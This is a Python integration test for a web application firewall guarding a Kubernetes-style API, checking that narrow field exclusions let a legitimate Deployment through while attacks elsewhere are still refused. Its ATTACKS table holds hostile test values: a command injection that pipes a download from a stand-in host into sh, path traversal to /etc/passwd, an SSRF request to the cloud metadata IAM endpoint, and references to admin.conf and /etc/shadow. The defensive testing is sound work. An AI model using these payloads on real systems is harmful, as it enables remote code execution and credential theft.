"""Integration: a Kubernetes-API-like route behind the waf, with the narrow per-field exclusions that
docs/waf.md recommends (a real gateway on loopback, port 0).

A Deployment whose containers run shell (``command``/``args``/a ``preStop`` hook) and mount a host directory under
``/etc`` is refused on a route without exclusions and forwarded byte for byte on the route that excludes ``cmdi`` from
the containers' command fields and ``traversal`` from ``hostPath.path``; on that route the same attacks in another
field, or another attack class in an excluded field, are still refused and never reach the upstream.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import orjson
import pytest

from bastion.testing.servers import GatewayThread, LoopThread, RecordingUpstream
from bastion.webapp.app import AppRequest, AppResponse, Router, json_response

pytestmark = pytest.mark.integration

CONTAINERS = "/body/spec/template/spec/containers/*"
CONFIG = f"""\
listeners:
  - address: 127.0.0.1:0
    plaintext: true
upstreams:
  kube: {{{{url: "http://127.0.0.1:{{port}}"}}}}
routes:
  - id: kube-apply
    match: {{{{prefix: /apis/}}}}
    upstream: kube
    public: true
    policies:
      - waf:
          exclusions:
            - {{{{field: {CONTAINERS}/command, rules: [cmdi]}}}}
            - {{{{field: {CONTAINERS}/args, rules: [cmdi]}}}}
            - {{{{field: {CONTAINERS}/lifecycle/*/exec/command, rules: [cmdi]}}}}
            - {{{{field: {CONTAINERS}/livenessProbe/exec/command, rules: [cmdi]}}}}
            - {{{{field: /body/spec/template/spec/volumes/*/hostPath/path, rules: [traversal]}}}}
  - id: plain
    match: {{{{prefix: /}}}}
    upstream: kube
    public: true
    policies:
      - waf: {{{{}}}}
"""

DEPLOYMENT: dict[str, Any] = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {"name": "edge-proxy", "namespace": "ingress", "labels": {"app": "edge-proxy"}},
    "spec": {
        "replicas": 2,
        "selector": {"matchLabels": {"app": "edge-proxy"}},
        "template": {
            "metadata": {"labels": {"app": "edge-proxy"}},
            "spec": {
                "containers": [{
                    "name": "haproxy",
                    "image": "haproxy:2.9",
                    "command": ["/bin/sh", "-c"],
                    "args": ["cp /seed/haproxy.cfg /tmp/h.cfg && exec haproxy -W -f /tmp/h.cfg -p $(mktemp)"],
                    "lifecycle": {"preStop": {"exec": {"command": [
                        "/bin/sh", "-c", "kill -USR1 $(pidof haproxy) && sleep 5"]}}},
                    "livenessProbe": {"exec": {"command": ["cat", "/tmp/h.cfg"]}, "periodSeconds": 10},
                    "volumeMounts": [{"name": "pki", "mountPath": "/etc/haproxy/certs", "readOnly": True}],
                    "env": [{"name": "MODE", "value": "edge"}],
                }],
                "volumes": [{"name": "pki", "hostPath": {"path": "/etc/edge/pki", "type": "Directory"}}],
            },
        },
    },
}
APPLY = "/apis/apps/v1/namespaces/ingress/deployments"


def _with(change: Any) -> bytes:
    doc = copy.deepcopy(DEPLOYMENT)
    change(doc["spec"]["template"]["spec"]["containers"][0], doc)
    return orjson.dumps(doc)


ATTACKS: dict[str, bytes] = {
    "cmdi_in_an_env_value": _with(lambda c, d: c["env"].append(
        {"name": "HOOK", "value": "x; curl -s http://hooks.example.net/p | sh"})),
    "traversal_in_an_annotation": _with(lambda c, d: d["metadata"].setdefault("annotations", {}).update(
        {"config-source": "../../../../etc/passwd"})),
    "system_file_in_a_generic_field": _with(lambda c, d: d["metadata"].setdefault("annotations", {}).update(
        {"path": "/etc/kubernetes/admin.conf"})),
    "ssrf_in_an_excluded_command": _with(lambda c, d: c.update(
        {"args": ["wget -qO- http://169.254.169.254/latest/meta-data/iam/"]})),
    "account_file_in_a_mount_path": _with(lambda c, d: c["volumeMounts"].append(
        {"name": "pki", "mountPath": "/etc/shadow"})),
}


@pytest.fixture
def kube(lt: LoopThread) -> Iterator[RecordingUpstream]:
    """An upstream that answers a create the way the API server does (201)."""
    app = Router()
    up = RecordingUpstream(lt, app)

    async def created(req: AppRequest) -> AppResponse:
        up.requests.append(req)
        return json_response({"kind": "Status", "path": req.path}, status=201)

    app.add("POST", "/apis/{group}/{version}/namespaces/{ns}/{plural}", created)
    app.add("POST", "/v1/{plural}", created)
    up.start()
    yield up
    up.stop()


@pytest.fixture
def base_url(make_gateway: Callable[[str], GatewayThread], kube: RecordingUpstream) -> str:
    return f"http://127.0.0.1:{make_gateway(CONFIG.format(port=kube.port)).port}"


def _post(base_url: str, path: str, body: bytes) -> httpx.Response:
    return httpx.post(base_url + path, content=body, headers={"content-type": "application/json"}, timeout=5)


def test_deployment_is_refused_without_exclusions(base_url: str, kube: RecordingUpstream) -> None:
    before = len(kube.requests)
    assert _post(base_url, "/v1/deployments", orjson.dumps(DEPLOYMENT)).status_code == 403
    assert len(kube.requests) == before


def test_deployment_passes_on_the_route_with_field_exclusions(base_url: str, kube: RecordingUpstream) -> None:
    body = orjson.dumps(DEPLOYMENT)
    response = _post(base_url, APPLY, body)
    assert response.status_code == 201, response.text
    assert kube.requests[-1].body == body


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_elsewhere_is_still_refused(base_url: str, kube: RecordingUpstream, name: str) -> None:
    before = len(kube.requests)
    response = _post(base_url, APPLY, ATTACKS[name])
    assert response.status_code == 403, name
    assert len(kube.requests) == before
